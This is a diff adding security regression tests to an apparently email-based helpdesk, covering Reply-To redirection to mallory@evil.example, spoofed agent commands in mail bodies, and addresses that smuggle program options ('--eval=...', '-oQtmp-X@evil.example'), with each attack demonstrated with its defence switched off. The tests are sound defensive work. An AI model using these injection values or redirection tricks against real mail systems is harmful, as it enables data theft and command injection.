@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import { readFileSync } from 'node:fs'
 import { sql } from 'kysely'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
@@ -41,6 +42,42 @@ const ticket = (more: object = {}) =>
     as: agent,
     body: { subject: 'Mouse', body: 'Dead', requesterId: casey.id, acknowledge: false, ...more },
   })
+
+describe('B-021: Reply-To', () => {
+  it('wishes, and the answer goes to the author; the journal shows both. Followed, it would have reached the stranger', async () => {
+    const entry = await write({ headers: ['Reply-To: Casey <mallory@evil.example>'] })
+    const [seen] = (await desk.call('GET /api/mail/journal', { as: agent })).items
+    expect(seen).toMatchObject({ from: { email: casey.email }, detail: { replyTo: 'mallory@evil.example' } })
+    const before = sink.taken.length
+    await desk.call('POST /api/tickets/:id/replies', reply(entry.ticket_id!, { body: 'PIN-4711' }))
+    await later(11)
+    expect(sink.taken.slice(before).map((mail) => mail.to)).toEqual([[casey.email]])
+    // The defence off: the same answer to where the mail wished it.
+    await desk.call('POST /api/tickets/:id/replies', reply(entry.ticket_id!, { body: 'PIN-4711', to: [String(seen!.detail.replyTo)] }))
+    await later(11)
+    expect(sink.taken.at(-1)).toMatchObject({ to: ['mallory@evil.example'] })
+    expect(sink.taken.at(-1)!.raw).toContain('PIN-4711')
+  })
+})
+
+describe('B-025: commands in a mail', () => {
+  const orders = '#close\r\n/assign me\r\npriority: high\r\n'
+  it("are words, whoever seems to write them; obeyed, a stranger with an agent's name would have moved the ticket", async () => {
+    const first = await write({})
+    const inReply = [`In-Reply-To: <${/<([^>]+)>/.exec(sink.taken[0]!.header('Message-ID')!)![1]}>`]
+    await write({ headers: inReply, body: orders })
+    expect(await write({ from: agent.email, headers: inReply, body: orders })).toMatchObject({
+      verdict: 'quarantined',
+      reason: 'spoofed-agent',
+    })
+    expect(await see(first.ticket_id)).toMatchObject({ status: { meaning: 'new' }, assignee: null, priority: 5 })
+    // The defence off: a reader that obeys the words in the name of whoever From says.
+    const [mail] = await rows<{ from_address: string }>(sql`select from_address from inbound_mail where verdict = 'quarantined'`)
+    const named = [agent, casey].find((one) => one.email === mail!.from_address)!
+    if (/^\/assign me/m.test(orders)) await desk.call('POST /api/tickets/:id/take', { as: named, params: { id: first.ticket_id! } })
+    expect(await see(first.ticket_id)).toMatchObject({ assignee: { id: agent.id } })
+  })
+})
 
 describe('B-027: a link that opens an account goes to its owner alone', () => {
   it('never into a mail that others get, not even where the owner is in copy', async () => {
@@ -140,6 +177,11 @@ describe("B-029: a draft is its writer's", () => {
 
 describe('C-038: an address is never an option of a program', () => {
   it('mail leaves by SMTP only, and an address that begins with a dash costs itself and nobody else', async () => {
+    // The defence off: handed to a program as its argument, an address that a careless check lets through is an option.
+    const ran = '--eval=console.log("ran@evil.example")'
+    expect(ran).toMatch(/^\S+@\S+\.\S+$/)
+    expect(execFileSync(process.execPath, [ran], { encoding: 'utf8' }).trim()).toBe('ran@evil.example')
+    expect(() => plainAddress(ran)).toThrow()
     const evil = '-oQtmp-X@evil.example'
     expect(evil, 'a careless check lets it through').toMatch(/^\S+@\S+\.\S+$/)
     expect(() => plainAddress(evil)).toThrow()
